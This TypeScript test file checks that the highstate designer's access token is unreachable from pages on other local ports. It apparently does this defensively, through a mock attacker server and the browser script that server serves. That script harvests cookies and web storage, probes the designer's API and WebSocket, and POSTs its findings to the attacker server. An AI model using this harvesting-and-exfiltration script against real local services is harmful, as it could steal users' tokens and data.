/**
 * The access token in real Chromium: the designer served by the real `highstate designer` keeps its
 * token out of cookies and out of the address bar, so a page served by any other process on another
 * port of 127.0.0.1 — opened in the same browser, also through a link clicked in the designer opened
 * as `localhost` — gets nothing: no cookie, no storage, no socket, no API answer.
 */
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { type BrowserSession, openBrowser } from "./support/browser.ts";
import { type DesignerProcess, ensureDesignerBuilt, startDesigner } from "./support/designer-process.ts";

interface StealReport {
  cookie: string;
  sessionStorage: Record<string, string>;
  localStorage: Record<string, string>;
  api: string;
  apiNoCors: string;
  socket: string;
  socketWithProtocols: string;
}

let workspace: string;
let designer: DesignerProcess;
let browser: BrowserSession;
let attacker: Server;
let attackerPort: number;
const seen: Array<{ url: string; headers: IncomingHttpHeaders }> = [];
const reports: StealReport[] = [];

/** What the attacker's page runs: everything a page on another port can try to get at the designer. */
function stealScript(designerOrigin: string): string {
  const ws = designerOrigin.replace("http:", "ws:");
  return `
const dump = (storage) => Object.fromEntries(Object.keys(storage).map((key) => [key, storage.getItem(key)]));
const attempt = (promise) => promise.then((value) => String(value), (error) => "failed: " + String(error && error.message || error));
const socket = (protocols) => new Promise((resolve) => {
  const s = protocols ? new WebSocket(${JSON.stringify(`${ws}/api/events`)}, protocols) : new WebSocket(${JSON.stringify(`${ws}/api/events`)});
  s.onopen = () => { resolve("opened"); s.close(); };
  s.onmessage = (event) => resolve("message: " + event.data);
  s.onerror = () => resolve("failed");
});
(async () => {
  const report = {
    cookie: document.cookie,
    sessionStorage: dump(sessionStorage),
    localStorage: dump(localStorage),
    api: await attempt(fetch(${JSON.stringify(`${designerOrigin}/api/projects`)}, { credentials: "include" }).then((r) => r.status + " " + r.text())),
    apiNoCors: await attempt(fetch(${JSON.stringify(`${designerOrigin}/api/projects`)}, { mode: "no-cors", credentials: "include" }).then((r) => r.type + " " + r.status)),
    socket: await socket(),
    socketWithProtocols: await socket(["highstate.v1"]),
  };
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
  document.title = "reported";
})();`;
}

beforeAll(async () => {
  await ensureDesignerBuilt();
  workspace = await mkdtemp(join(tmpdir(), "highstate-token-"));
  await writeFile(join(workspace, "package.json"), `${JSON.stringify({ name: "infra", private: true, type: "module" })}\n`);
  await writeFile(join(workspace, "Pulumi.yaml"), "name: infra\nruntime: nodejs\n");
  designer = await startDesigner(workspace);
  const designerOrigin = designer.baseUrl;
  attacker = createServer((request, response) => {
    seen.push({ url: request.url ?? "", headers: request.headers });
    if (request.url === "/report") {
      let body = "";
      request.on("data", (chunk: Buffer) => (body += chunk.toString()));
      request.on("end", () => {
        reports.push(JSON.parse(body) as StealReport);
        response.end("ok");
      });
      return;
    }
    response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
    response.end(`<!doctype html><title>other server</title><script>${stealScript(designerOrigin)}</script>`);
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  attackerPort = (attacker.address() as AddressInfo).port;
  browser = await openBrowser();
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await designer?.stop();
  await new Promise((resolve) => (attacker ? attacker.close(resolve) : resolve(undefined)));
  if (workspace) await rm(workspace, { recursive: true, force: true });
});

async function nextReport(count: number): Promise<StealReport> {
  await expect.poll(() => reports.length, { timeout: 30_000 }).toBeGreaterThanOrEqual(count);
  return reports[count - 1]!;
}

function expectNothingStolen(report: StealReport, token: string): void {
  expect(report.cookie).toBe("");
  expect(report.sessionStorage).toEqual({});
  expect(report.localStorage).toEqual({});
  // The designer refuses the foreign origin (and the browser would not show the answer anyway).
  expect(report.api).toMatch(/^failed/);
  // Cross-Origin-Resource-Policy: same-origin blocks even the opaque answer.
  expect(report.apiNoCors).toMatch(/^(failed|opaque 0)/);
  expect(report.socket).toBe("failed");
  expect(report.socketWithProtocols).toBe("failed");
  expect(JSON.stringify(report)).not.toContain(token);
}

describe("the designer's access token", () => {
  test("stays out of cookies and the address bar, survives a reload of its tab, and a page on another 127.0.0.1 port gets nothing", async () => {
    const token = new URLSearchParams(new URL(designer.url).hash.slice(1)).get("token")!;
    expect(token).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const { page, context } = browser;
    await page.goto(designer.url);
    await page.getByRole("heading", { name: "Projects" }).waitFor();
    expect(page.url()).not.toContain(token);
    expect(await context.cookies()).toEqual([]);
    expect(await page.evaluate(() => sessionStorage.getItem("highstate.access-token"))).toBe(token);
    // Session storage keeps the tab working across a reload.
    await page.reload();
    await page.getByRole("heading", { name: "Projects" }).waitFor();

    // Another local server's page in the same browser.
    const other = await context.newPage();
    await other.goto(`http://127.0.0.1:${attackerPort}/steal`);
    await other.waitForFunction(() => document.title === "reported");
    expectNothingStolen(await nextReport(1), token);
    await other.close();

    // The designer opened as localhost, then a link to the other server clicked in its tab.
    await page.goto(designer.url.replace("127.0.0.1", "localhost"));
    await page.getByRole("heading", { name: "Projects" }).waitFor();
    expect(await context.cookies()).toEqual([]);
    await page.evaluate((target) => {
      const link = document.createElement("a");
      link.href = target;
      link.textContent = "elsewhere";
      document.body.append(link);
      link.click();
    }, `http://127.0.0.1:${attackerPort}/clicked`);
    await page.waitForFunction(() => document.title === "reported");
    expectNothingStolen(await nextReport(2), token);

    // Nothing the other server received carries the token: no cookie, no referrer, no URL.
    expect(seen.length).toBeGreaterThanOrEqual(4);
    for (const request of seen) {
      expect(request.headers.cookie).toBeUndefined();
      expect(JSON.stringify(request)).not.toContain(token);
    }
    // The token itself is what the API wants: with it, a script gets in.
    const withToken = await fetch(`${designer.baseUrl}/api/projects`, { headers: { authorization: `Bearer ${token}` } });
    expect(withToken.status).toBe(200);
  }, 120_000);
});
